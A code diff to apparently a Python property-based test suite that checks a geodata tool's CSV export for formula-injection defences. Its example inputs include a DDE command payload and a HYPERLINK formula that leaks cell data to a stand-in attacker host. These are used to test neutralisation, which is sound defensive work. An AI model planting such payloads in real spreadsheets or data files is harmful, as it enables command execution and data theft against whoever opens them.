@@ -23,6 +23,7 @@ from tests.hostile import (
     HOSTILE,
     MAP_NAMES,
     as_required_text,
+    assert_bad_input,
     assert_built,
     assert_clean,
     check_exports,
@@ -38,7 +39,8 @@ from tests.hostile import (
 
 # Strings the data contract gives a meaning (slugs, times, enumerations, references): not free text.
 PROTECTED = {"id", "time", "time_precision", "geometry_quality", "jaffar_express_stop", "from_station",
-             "to_station", "place", "between_stations", "via", "date"}
+             "to_station", "place", "between_stations", "via", "date",
+             "name_ur"}  # Urdu script only: the validator refuses Latin text there
 BASE_LAYERS = read_layers()
 BASE_RECIPES = read_recipes()
 
@@ -205,18 +207,18 @@ formula_key = st.tuples(st.sampled_from("=+-@\t\r"), st.from_regex(r"[A-Za-z0-9_
 
 
 @HOSTILE
-@given(keys=st.lists(formula_key, min_size=1, max_size=4, unique_by=str.lower), values=hostile_text)
-@example(keys=["=cmd|' /C calc'!A0", "+SUM(1)", "-2+3", "@A1", "\tx", "\rx"], values="=1+1")
-def test_csv_has_no_formula_cell_headers_included(keys, values):
-    """Defect 3 (CSV formula injection): figure keys (they become header cells) and every text cell of
-    events.csv that begins with = + - @ tab or CR is neutralised with a leading quote, unless it is a number."""
+@given(values=hostile_text)
+@example(values="=1+1")
+@example(values='=HYPERLINK("http://evil.example/?leak="&A1,"x")')
+def test_csv_has_no_formula_cell(values):
+    """Defect 3 (CSV formula injection): every text cell of events.csv that begins with = + - @ tab or CR
+    is neutralised with a leading quote, unless it is a number."""
     with tempfile.TemporaryDirectory() as tmp:
         tmp = Path(tmp)
         layers = copy.deepcopy(BASE_LAYERS)
-        for i, feature in enumerate(layers["events"]["features"][:6]):
+        for feature in layers["events"]["features"][:6]:
             props = feature["properties"]
-            props["figures"] = {**props["figures"], keys[i % len(keys)]: i}
-            for key in ("name", "summary", "claimed_by", "claimed_by_detail", "place_reported"):
+            for key in ("name", "summary", "claimed_by", "claimed_by_detail", "place_reported", "notes"):
                 props[key] = as_required_text(values)
             props["sources"][0]["outlet"] = as_required_text(values)
         layers_dir = write_layers(tmp / "layers", layers)
@@ -225,3 +227,20 @@ def test_csv_has_no_formula_cell_headers_included(keys, values):
         from tests.hostile import formula_cells
         bad = formula_cells(tmp / "events.csv")
         assert not bad, f"formula cells: {bad[:6]}"
+
+
+@given(key=formula_key)
+@example(key="=cmd|' /C calc'!A0")
+@example(key="-2+3")
+def test_figure_keys_that_could_be_formula_headers_are_refused(key):
+    """Defect 3 (headers): figure keys become CSV headers and GeoPackage columns, so anything but a
+    lower-case identifier is bad input naming the key; no header can then start a formula."""
+    with tempfile.TemporaryDirectory() as tmp:
+        tmp = Path(tmp)
+        layers = copy.deepcopy(BASE_LAYERS)
+        props = layers["events"]["features"][0]["properties"]
+        props["figures"] = {**props["figures"], key: 1}
+        layers_dir = write_layers(tmp / "layers", layers)
+        result = geo("export", "--format", "csv", "--out", tmp / "events.csv", "--layers-dir", layers_dir)
+        assert_bad_input(result, "figures", "events.geojson")
+        assert not (tmp / "events.csv").exists()
